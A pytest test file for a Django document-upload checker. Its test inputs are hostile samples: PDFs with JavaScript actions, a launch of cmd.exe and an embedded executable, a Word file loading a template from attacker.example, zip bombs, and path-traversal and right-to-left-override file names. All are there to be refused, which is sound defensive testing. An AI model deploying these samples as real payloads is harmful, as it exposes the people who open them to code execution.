"""Uploaded documents: checked to be what they claim, stored privately, served to members."""

import hashlib
import os
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.urls import reverse

from agencies import documents
from agencies.documents import AGREEMENT_TYPES, EVIDENCE_TYPES, check_upload
from agencies.models import DocumentKind
from tests import files
from tests.conftest import login
from tests.pages import download_url


def error_of(upload, types=AGREEMENT_TYPES) -> str:
    with pytest.raises(ValidationError) as raised:
        check_upload(upload, types)
    return " ".join(raised.value.messages)


@pytest.mark.parametrize(
    ("make", "types", "content_type", "filename"),
    [
        (files.pdf, AGREEMENT_TYPES, "application/pdf", "certificate.pdf"),
        (files.docx, AGREEMENT_TYPES, documents.DOCX.content_type, "agreement.docx"),
        (files.png, EVIDENCE_TYPES, "image/png", "certificate.png"),
        (files.jpeg, EVIDENCE_TYPES, "image/jpeg", "certificate.jpg"),
    ],
)
def test_real_documents_are_accepted_and_hashed(make, types, content_type, filename):
    upload = make()
    checked = check_upload(upload, types)

    assert checked.file_type.content_type == content_type
    assert checked.filename == filename
    assert checked.size == upload.size
    upload.seek(0)
    assert checked.sha256 == hashlib.sha256(upload.read()).hexdigest()


def test_an_html_page_renamed_pdf_is_refused():
    assert "is not a PDF" in error_of(files.html_as_pdf())


SCRIPT = b"<< /S /JavaScript /JS (app.alert('hello')) >>"
SCRIPTS_REFUSED = "contains scripts, embedded files or actions that start programs"


@pytest.mark.parametrize(
    "data",
    [
        files.pdf_opening_with(SCRIPT),
        files.pdf_opening_with(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        files.pdf_opening_with(b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", SCRIPT),
        files.pdf_opening_with(b"<< /S /Launch /F (C:\\Windows\\System32\\cmd.exe) >>"),
        files.pdf_of_objects(
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /AA << /O " + SCRIPT + b" >> >>",
        ),
        files.pdf_of_objects(
            b"<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>",
            b"<< /Names [(invoice.exe) 3 0 R] >>",
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 4 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ),
        files.pdf_opening_with(b"null", files.object_stream({4: SCRIPT})),
        files.pdf_opening_with(b"null", files.object_stream({4: b"<< /S /JavaScr#69pt >>"})),
        files.pdf_opening_with(
            b"null",
            files.object_stream({4: SCRIPT}).replace(b"/Type", b"/Note (stream\n) /Type", 1),
        ),
        # Readers find object streams through the cross-reference table, whatever /Type says.
        files.pdf_opening_with(
            b"null", files.object_stream({4: SCRIPT}).replace(b"/Type /ObjStm ", b"", 1)
        ),
        files.pdf_opening_with(
            b"null", files.object_stream({4: SCRIPT}).replace(b">>\nstream\n", b">>\nstream \n", 1)
        ),
    ],
    ids=[
        "open-action-script",
        "hex-escaped-names",
        "script-chained-after-an-action",
        "launch",
        "page-open-script",
        "embedded-file",
        "script-in-compressed-object-stream",
        "escaped-name-in-object-stream",
        "object-stream-behind-a-string-saying-stream",
        "object-stream-without-its-type",
        "object-stream-keyword-followed-by-a-space",
    ],
)
def test_a_pdf_that_runs_scripts_launches_programs_or_carries_files_is_refused(data):
    assert SCRIPTS_REFUSED in error_of(files.upload("policy.pdf", data))


def test_a_pdf_opening_at_its_first_page_is_accepted():
    data = files.pdf_opening_with(b"[3 0 R /Fit]", files.object_stream({5: b"<< /Title (JS) >>"}))
    assert check_upload(files.upload("policy.pdf", data), AGREEMENT_TYPES).file_type.label == "PDF"


def test_names_spelled_by_chance_in_compressed_page_data_do_not_count():
    scanned = b"\x8f\x12 /JS \x00\xff/JavaScript\r\x9a" * 1000
    data = files.pdf_of_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>",
        b"<< /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream" % (len(scanned), scanned),
    )
    assert check_upload(files.upload("scan.pdf", data), AGREEMENT_TYPES).size == len(data)


def test_a_script_object_hidden_inside_another_streams_data_is_found():
    hidden = b"\x8f\x12\n9 0 obj\n" + SCRIPT + b"\nendobj\n\x00\xff"
    data = files.pdf_opening_with(
        b"9 0 R",
        b"<< /Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream" % (len(hidden), hidden),
    )
    assert SCRIPTS_REFUSED in error_of(files.upload("policy.pdf", data))


def test_a_pdf_whose_object_streams_cannot_be_read_is_refused():
    encrypted = files.object_stream({4: SCRIPT}, packed=lambda data: bytes(b ^ 0x5A for b in data))
    data = files.pdf_opening_with(b"null", encrypted, trailer=b"/Encrypt 9 0 R ")
    assert "encrypted or packed in a way that cannot be checked" in error_of(
        files.upload("policy.pdf", data)
    )


def test_a_zip_bomb_renamed_docx_is_refused():
    assert "expands to more than 100 MB" in error_of(files.zip_bomb_as_docx())


def test_an_empty_file_is_refused():
    assert "“policy.pdf” is empty" in error_of(files.upload("policy.pdf", b""))


def test_a_file_over_20_mb_is_refused():
    big = files.upload("policy.pdf", b"%PDF-1.7\n" + b"0" * (20 * 2**20) + b"%%EOF")
    assert "at most 20 MB" in error_of(big)


def test_a_pdf_cut_short_is_refused():
    cut = files.upload("policy.pdf", files.pdf_bytes()[:2000])
    assert "cut short" in error_of(cut)


def test_an_old_word_file_gets_advice_rather_than_a_puzzle():
    ole = files.upload("policy.docx", documents.OLE_SIGNATURE + b"\0" * 600)
    assert "older Word (.doc) file or a password-protected document" in error_of(ole)


def test_a_macro_enabled_document_is_refused():
    macro = files.upload(
        "policy.docx",
        files.docx_bytes(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    assert "macros" in error_of(macro)


def test_a_document_with_a_macro_project_is_refused():
    import io
    import zipfile

    buffer = io.BytesIO(files.docx_bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"macro")
    assert "macros" in error_of(files.upload("policy.docx", buffer.getvalue()))


def test_a_document_that_loads_a_remote_template_is_refused():
    import io
    import zipfile

    buffer = io.BytesIO(files.docx_bytes())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    assert "loads a template from elsewhere" in error_of(
        files.upload("policy.docx", buffer.getvalue())
    )


def test_a_bomb_hidden_in_the_content_types_part_is_stopped_by_the_running_count():
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b" " * (120 * 2**20))
        archive.writestr("word/document.xml", "<w:document/>")
    assert "expands to more than 100 MB" in error_of(files.upload("x.docx", buffer.getvalue()))


def test_a_zip_declaring_too_many_parts_is_refused_before_its_directory_is_read():
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(documents.MAX_ZIP_ENTRIES + 1):
            archive.writestr(f"p{n}", b"")
    assert "too many parts" in error_of(files.upload("x.docx", buffer.getvalue()))


@pytest.mark.parametrize("make", [files.docx_bytes, lambda: files.image_bytes("PNG")])
def test_damaged_files_are_refused_never_crash(make):
    import random

    original = make()
    rng = random.Random(7)
    refused = 0
    for _ in range(300):
        damaged = bytearray(original)
        for _ in range(3):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        name = "x.docx" if original.startswith(b"PK") else "x.png"
        try:
            check_upload(files.upload(name, bytes(damaged)), (documents.DOCX, documents.PNG))
        except ValidationError:  # anything else fails the test
            refused += 1
    assert refused > 100


def test_a_plain_zip_renamed_docx_is_refused():
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert "is not a Word document" in error_of(files.upload("policy.docx", buffer.getvalue()))


def test_types_not_accepted_here_are_named():
    assert "Upload a PDF or Word (.docx) file" in error_of(files.upload("run.exe", b"MZ" * 50))
    assert "Upload a PDF, PNG or JPEG file" in error_of(files.docx(), EVIDENCE_TYPES)


def test_a_name_without_an_extension_is_judged_by_its_content():
    checked = check_upload(files.upload("Policy v2.1 final", files.pdf_bytes()), AGREEMENT_TYPES)
    assert checked.filename == "Policy v2.1 final.pdf"
    checked = check_upload(files.upload("MOU 2024.03", files.docx_bytes()), AGREEMENT_TYPES)
    assert checked.filename == "MOU 2024.03.docx"
    assert "Upload a PDF or Word (.docx) file" in error_of(files.upload("notes", b"hello there"))


def test_a_damaged_image_is_refused():
    broken = files.upload("certificate.png", files.image_bytes("PNG")[:60])
    assert "damaged or is not a PNG image" in error_of(broken, EVIDENCE_TYPES)


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\chief\\MOU signed.PDF", "MOU signed.pdf"),
        ("inv\u202egpj.pdf", "invgpj.pdf"),  # a right-to-left override
        ('a<b>"c".pdf', "abc.pdf"),
        ("   .pdf", "document.pdf"),
    ],
)
def test_file_names_are_made_safe_for_display(given, shown):
    assert check_upload(files.upload(given, files.pdf_bytes()), AGREEMENT_TYPES).filename == shown


def test_stored_under_a_server_made_name_in_the_agency_folder(agency_a, coordinator, private_files):
    checked = check_upload(files.pdf("../../MOU with Harbor Crisis Center.pdf"), AGREEMENT_TYPES)

    document = documents.store(
        checked, agency=agency_a, actor=coordinator, kind=DocumentKind.PARTNERSHIP
    )

    [path] = private_files()
    assert path == document.file.name
    folder, name = os.path.split(path)
    assert folder == f"documents/{agency_a.public_id}"
    assert "Harbor" not in name and name.endswith(".pdf") and len(name) == 36
    assert document.filename == "MOU with Harbor Crisis Center.pdf"
    assert document.sha256 == checked.sha256
    with pytest.raises(ValueError):
        document.file.url  # no public URL exists for private files  # noqa: B018


def stored(agency, actor, upload, types=AGREEMENT_TYPES):
    return documents.store(
        check_upload(upload, types), agency=agency, actor=actor, kind=DocumentKind.POLICY
    )


def test_a_member_downloads_a_pdf_never_shown_in_the_sites_pages(
    client, agency_a, coordinator, viewer, private_files
):
    document = stored(agency_a, coordinator, files.pdf("Crisis policy.pdf"))
    login(client, viewer)

    response = client.get(download_url(document))

    assert response.status_code == 200
    assert b"".join(response.streaming_content) == files.pdf_bytes()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="Crisis policy.pdf"'
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]


def test_other_files_are_downloaded_never_displayed(client, agency_a, coordinator, private_files):
    document = stored(agency_a, coordinator, files.docx("MOU – signed.docx"))
    login(client, coordinator)

    response = client.get(download_url(document))

    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''MOU%20%E2%80%93%20signed.docx" in response["Content-Disposition"]
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["X-Content-Type-Options"] == "nosniff"


def test_another_agency_cannot_download_even_with_the_exact_url(
    client, agency_a, agency_b, coordinator, coordinator_b, private_files
):
    document = stored(agency_a, coordinator, files.pdf())
    login(client, coordinator_b)

    assert client.get(download_url(document)).status_code == 404
    under_own_agency = reverse(
        "document_download",
        kwargs={"agency_slug": agency_b.slug, "document_id": document.public_id},
    )
    assert client.get(under_own_agency).status_code == 404


def test_signed_out_visitors_are_sent_to_sign_in(client, agency_a, coordinator, private_files):
    document = stored(agency_a, coordinator, files.pdf())

    response = client.get(download_url(document))

    assert response.status_code == 302
    assert reverse("account_login") in response["Location"]


def test_sweep_removes_files_left_by_a_rolled_back_change(agency_a, coordinator, private_files):
    written = datetime(2026, 3, 2, 12, tzinfo=UTC)
    with time_machine.travel(written, tick=False):
        kept = stored(agency_a, coordinator, files.pdf())
        orphan = default_storage.save(f"documents/{agency_a.public_id}/{'0' * 32}.pdf", files.pdf())
    for name in (kept.file.name, orphan):  # the file system keeps the real clock's time
        os.utime(default_storage.path(name), (written.timestamp(), written.timestamp()))

    with time_machine.travel(written + timedelta(hours=1), tick=False):
        assert documents.sweep_orphans() == 0  # too recent: its transaction may still be open
        assert orphan in private_files()
        assert documents.sweep_orphans(min_age=timedelta(0)) == 1
    assert private_files() == [kept.file.name]
